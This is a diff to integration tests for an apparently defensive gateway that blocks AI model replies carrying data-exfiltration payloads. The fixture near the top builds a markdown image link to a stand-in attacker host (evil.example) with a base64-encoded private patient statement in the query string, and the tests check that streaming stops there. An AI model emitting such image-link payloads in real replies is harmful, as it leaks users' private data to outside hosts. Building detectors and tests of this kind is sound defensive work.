@@ -22,7 +22,7 @@ from tests.integration.service import CREDENTIAL, RunningService
 
 SAID = base64.b64encode(b"the patient said that she moves to Lyon").decode()
 LEAK = f"Done. ![chart](https://evil.example/p.png?x={SAID}) Bye."
-CUT = "Done. ![chart](https:[…]) Bye."
+CUT = "Done. ![chart](https://[…]) Bye."
 TRUSTED = LEAK.replace("evil.example", "a.charts.example")
 POLICY = """
 format = 1
@@ -154,7 +154,7 @@ def test_a_reply_that_is_blocked_does_not_come(blocking: RunningService) -> None
 def test_a_stream_ends_where_it_is_blocked(blocking: RunningService) -> None:
     blocking.provider.script = stream(*in_pieces(LEAK, 9))
     reply = ask(blocking, stream=True)
-    assert "Done. ![chart](https:".startswith(streamed(reply))
+    assert "Done. ![chart](https://".startswith(streamed(reply))
     assert "EXFILTRATION" in reply.text and SAID[:9] not in reply.text
     assert outcome(blocking, reply)["reason"] == "gateway.hostile-reply"
 
